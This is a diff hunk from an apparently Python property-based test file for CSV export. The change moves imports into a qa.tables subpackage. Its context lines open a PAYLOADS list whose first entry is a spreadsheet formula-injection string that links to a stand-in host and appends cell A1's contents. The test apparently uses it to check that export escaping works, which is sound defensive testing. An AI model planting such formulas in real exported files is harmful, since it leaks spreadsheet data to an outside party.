@@ -11,9 +11,9 @@ from hand_plans import PLANS
 from hypothesis import given
 from hypothesis import strategies as st
 
-from qa.export_csv import guarded, to_csv
-from qa.export_table import Table, target_table, task_table
-from qa.records import TaskQuery, select_targets, select_tasks
+from qa.tables.export_csv import guarded, to_csv
+from qa.tables.export_table import Table, target_table, task_table
+from qa.tables.records import TaskQuery, select_targets, select_tasks
 
 PAYLOADS = [
     '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
